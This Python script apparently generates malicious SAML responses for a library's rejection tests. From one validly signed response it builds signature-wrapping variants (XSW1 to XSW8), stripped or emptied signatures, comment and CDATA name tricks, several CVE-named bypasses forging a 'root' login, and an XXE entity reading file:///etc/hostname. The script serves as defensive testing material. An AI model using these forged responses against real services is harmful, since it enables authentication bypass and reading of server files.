#!/usr/bin/env python3
"""Makes of one signed answer of SAML the documents by which services have been deceived.

    saml-shapes.py FOLDER < answer.xml

Each shape is written to FOLDER/<name>.xml. `answer.xml` is a good answer of any identity provider, with a signature of its own, of
its assertion, or of both. The attacker of a shape has that answer and no key: they want the service to sign in `root`. So every
shape must be refused by whoever believes the answer; crates/saml/tests/it/shapes.rs sees to it with answers that pysaml2 has
signed. Python's own library is enough to run this.

XSW1 to XSW8 follow SAML Raider (XSWHelpers), after Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (2012).
XSW1 and XSW2 need a signed answer, XSW3 to XSW8 a signed assertion. The others are named after what was found by them:

    signature-excluded      every signature is taken out
    signature-emptied       signatures have nothing in them
    value-emptied           signatures have no value
    cve-2017-11427          a comment within a name, which canonical XML leaves out
    cve-2017-11427-cdata    the same with a section of characters
    cve-2022-41912          two assertions, the unsigned one first; -reversed: the signed one first
    cve-2024-45409          a digest of the attacker's, in a place where a careless search finds it first
    cve-2025-25291          a document type whose system identifier holds the beginning of a comment
    cve-2025-25292          a signature for one parser only: its prefix means something else for the other
    cve-2025-66568          what cannot be canonicalised, with the digest of the empty text
    xxe                     an entity that names a file
    duplicate-id            the evil assertion has the id that the signature names
    tampered                the signed name is another
"""

import base64
import hashlib
import pathlib
import sys
from xml.dom import minidom

ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion"
PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol"
SIGNATURE = "http://www.w3.org/2000/09/xmldsig#"
EVIL_NAME = "root"


class Answer:
    """A good answer, parsed anew for each shape, which changes it."""

    def __init__(self, text):
        self.document = minidom.parseString(text)
        self.response = self.document.documentElement
        [self.assertion] = self.response.getElementsByTagNameNS(ASSERTION, "Assertion")

    @staticmethod
    def signature(element):
        """The signature that an element has of its own."""
        own = [child for child in element.childNodes if (child.namespaceURI, child.localName) == (SIGNATURE, "Signature")]
        return own[0] if own else None

    def all(self, namespace, name):
        return list(self.document.getElementsByTagNameNS(namespace, name))

    @staticmethod
    def without_signature(element):
        clone = element.cloneNode(True)
        own = Answer.signature(clone)
        if own is not None:
            clone.removeChild(own)
        return clone

    def evil_assertion(self, id_="_evil"):
        """The assertion as the attacker wants it: of somebody else, and without a signature."""
        evil = self.without_signature(self.assertion)
        evil.setAttribute("ID", id_)
        rename(evil)
        return evil

    def in_object(self, element):
        prefix = self.signature(self.assertion).prefix
        wrapper = self.document.createElementNS(SIGNATURE, f"{prefix}:Object" if prefix else "Object")
        wrapper.appendChild(element)
        return wrapper

    def named_like(self, element, name):
        """An element of SAML's protocol with the prefix of another."""
        return self.document.createElementNS(PROTOCOL, f"{element.prefix}:{name}" if element.prefix else name)

    def text(self):
        return self.response.toxml()


def rename(element):
    """Makes everybody of whom an element speaks somebody else."""
    for name in element.getElementsByTagNameNS(ASSERTION, "NameID"):
        name.firstChild.data = EVIL_NAME


def xsw1(answer):
    """The signature of the evil answer holds the good one."""
    good, signature = answer.without_signature(answer.response), answer.signature(answer.response)
    signature.appendChild(good)
    become_evil(answer)


def xsw2(answer):
    """The good answer stands before its signature in the evil one."""
    good, signature = answer.without_signature(answer.response), answer.signature(answer.response)
    answer.response.insertBefore(good, signature)
    become_evil(answer)


def become_evil(answer):
    answer.response.setAttribute("ID", "_evil_answer")
    answer.assertion.setAttribute("ID", "_evil")
    rename(answer.assertion)


def xsw3(answer):
    """The evil assertion stands before the good one."""
    answer.response.insertBefore(answer.evil_assertion(), answer.assertion)


def xsw4(answer):
    """The evil assertion stands around the good one."""
    evil = answer.evil_assertion()
    answer.response.replaceChild(evil, answer.assertion)
    evil.appendChild(answer.assertion)


def xsw5(answer):
    """The evil assertion has the signature; the good one stands at the end without it."""
    good = answer.without_signature(answer.assertion)
    answer.assertion.setAttribute("ID", "_evil")
    rename(answer.assertion)
    answer.response.appendChild(good)


def xsw6(answer):
    """The signature in the evil assertion holds the good one."""
    good = answer.without_signature(answer.assertion)
    answer.signature(answer.assertion).appendChild(good)
    answer.assertion.setAttribute("ID", "_evil")
    rename_first(answer)


def rename_first(answer):
    """Makes the outer assertion evil, and leaves the one within its signature."""
    for child in answer.assertion.childNodes:
        if child.nodeType == child.ELEMENT_NODE and child.namespaceURI == ASSERTION:
            rename(child)


def xsw7(answer):
    """The evil assertion stands in extensions, where a schema asks for nothing."""
    extensions = answer.named_like(answer.response, "Extensions")
    extensions.appendChild(answer.evil_assertion())
    answer.response.insertBefore(extensions, answer.assertion)


def xsw8(answer):
    """The signature in the evil assertion holds the good one in an object."""
    good = answer.without_signature(answer.assertion)
    answer.signature(answer.assertion).appendChild(answer.in_object(good))
    answer.assertion.setAttribute("ID", "_evil")
    rename_first(answer)


def signature_excluded(answer):
    for signature in answer.all(SIGNATURE, "Signature"):
        signature.parentNode.removeChild(signature)


def signature_emptied(answer):
    for signature in answer.all(SIGNATURE, "Signature"):
        while signature.firstChild:
            signature.removeChild(signature.firstChild)


def value_emptied(answer):
    for value in answer.all(SIGNATURE, "SignatureValue"):
        while value.firstChild:
            value.removeChild(value.firstChild)


def cve_2017_11427(answer):
    [name] = answer.all(ASSERTION, "NameID")
    behind = name.firstChild.splitText(1)
    name.insertBefore(answer.document.createComment("x"), behind)


def cve_2017_11427_cdata(answer):
    [name] = answer.all(ASSERTION, "NameID")
    text = name.firstChild
    name.replaceChild(answer.document.createCDATASection(text.data), text)


def cve_2022_41912(answer):
    answer.response.insertBefore(answer.evil_assertion(), answer.response.firstChild)


def cve_2022_41912_reversed(answer):
    answer.response.appendChild(answer.evil_assertion())


def cve_2024_45409(answer):
    [status] = answer.all(PROTOCOL, "Status")
    rename(answer.assertion)
    detail = answer.named_like(answer.response, "StatusDetail")
    digest = answer.all(SIGNATURE, "DigestValue")[0].cloneNode(True)
    evil = hashlib.sha256(answer.without_signature(answer.assertion).toxml().encode()).digest()
    digest.firstChild.data = base64.b64encode(evil).decode()
    digest.setAttribute("xmlns:" + digest.prefix if digest.prefix else "xmlns", SIGNATURE)
    detail.appendChild(digest)
    status.appendChild(detail)


def cve_2025_25292(answer):
    for signature in answer.all(SIGNATURE, "Signature"):
        prefix = signature.prefix
        signature.setAttribute(f"xmlns:{prefix}" if prefix else "xmlns", SIGNATURE + "x")
    rename(answer.assertion)


def cve_2025_66568(answer):
    rename(answer.assertion)
    signed = answer.assertion if answer.signature(answer.assertion) else answer.response
    signed.setAttribute("xmlns:relative", "1")
    signed.setAttribute("relative:x", "")
    for digest in answer.all(SIGNATURE, "DigestValue"):
        digest.firstChild.data = base64.b64encode(hashlib.sha256(b"").digest()).decode()


def duplicate_id(answer):
    answer.response.insertBefore(answer.evil_assertion(answer.assertion.getAttribute("ID")), answer.assertion)


def tampered(answer):
    rename(answer.assertion)


def with_doctype(doctype, change=None):
    """What is said before the answer, whose name may be an entity."""

    def shape(text):
        answer = Answer(text)
        written = answer.text()
        if change:
            [name] = answer.all(ASSERTION, "NameID")
            written = written.replace(f">{name.firstChild.data}<", f">{change}<")
        return doctype + written

    return shape


def changed(change):
    def shape(text):
        answer = Answer(text)
        change(answer)
        return answer.text()

    return shape


def of_assertion(change):
    """The assertion's signature alone counts: that of the answer around it would not hold, so it is taken out."""

    def shape(answer):
        own = answer.signature(answer.response)
        if own is not None:
            answer.response.removeChild(own)
        change(answer)

    return changed(shape)


OF_RESPONSE = {"xsw1": changed(xsw1), "xsw2": changed(xsw2)}
OF_ASSERTION = {
    "xsw3": of_assertion(xsw3),
    "xsw4": of_assertion(xsw4),
    "xsw5": of_assertion(xsw5),
    "xsw6": of_assertion(xsw6),
    "xsw7": of_assertion(xsw7),
    "xsw8": of_assertion(xsw8),
}
OF_ANY = {
    "signature-excluded": changed(signature_excluded),
    "signature-emptied": changed(signature_emptied),
    "value-emptied": changed(value_emptied),
    "cve-2017-11427": changed(cve_2017_11427),
    "cve-2017-11427-cdata": changed(cve_2017_11427_cdata),
    "cve-2022-41912": changed(cve_2022_41912),
    "cve-2022-41912-reversed": changed(cve_2022_41912_reversed),
    "cve-2024-45409": changed(cve_2024_45409),
    "cve-2025-25291": with_doctype("<!DOCTYPE response SYSTEM 'x\"><!--'>"),
    "cve-2025-25292": changed(cve_2025_25292),
    "cve-2025-66568": changed(cve_2025_66568),
    "xxe": with_doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"),
    "duplicate-id": changed(duplicate_id),
    "tampered": changed(tampered),
}


def main(folder):
    text = sys.stdin.buffer.read()
    answer = Answer(text)
    shapes = dict(OF_ANY)
    if answer.signature(answer.response) is not None:
        shapes |= OF_RESPONSE
    if answer.signature(answer.assertion) is not None:
        shapes |= OF_ASSERTION
    for name, shape in shapes.items():
        (folder / f"{name}.xml").write_text(shape(text), encoding="utf-8")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: saml-shapes.py FOLDER < answer.xml")
    main(pathlib.Path(sys.argv[1]))
